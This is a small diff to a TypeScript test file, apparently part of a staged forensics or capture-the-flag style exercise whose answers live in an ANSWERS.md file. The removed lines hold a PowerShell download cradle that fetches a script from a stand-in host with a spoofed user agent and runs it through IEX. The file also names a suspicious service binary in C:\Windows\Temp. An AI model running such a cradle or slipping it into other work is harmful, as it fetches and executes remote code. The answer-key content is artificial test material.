@@ -74,10 +74,8 @@ import { match, throws } from "node:assert/strict";
 import { openLocalProvider } from "../../src/providers/mod.ts";
 import { show } from "../../src/display/mod.ts";
 import type { DisplayError } from "../../src/display/errors.ts";
+import { CRADLE } from "../_demo_tables.ts";
 
-/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
-const CRADLE = "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
-  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
 /** ANSWERS.md, stage 10: the service's binary. */
 const WSH = "C:\\Windows\\Temp\\wsh.exe";
 
